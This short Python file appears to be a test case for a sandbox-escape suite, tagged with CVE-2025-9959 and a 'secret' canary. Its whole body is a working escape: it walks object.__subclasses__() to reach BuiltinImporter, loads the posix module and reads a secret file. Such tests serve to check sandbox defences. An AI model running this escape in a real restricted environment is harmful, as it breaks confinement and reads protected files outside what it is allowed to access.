"""Find the importer among the classes.

family: classes
canary: secret
stops: full, container
root: no
related: CVE-2025-9959
"""

importers = [each for each in object.__subclasses__() if each.__name__ == "BuiltinImporter"]
posix = importers[0].load_module("posix")
print(posix.read(posix.open(SECRET_FILE, 0), 1000))
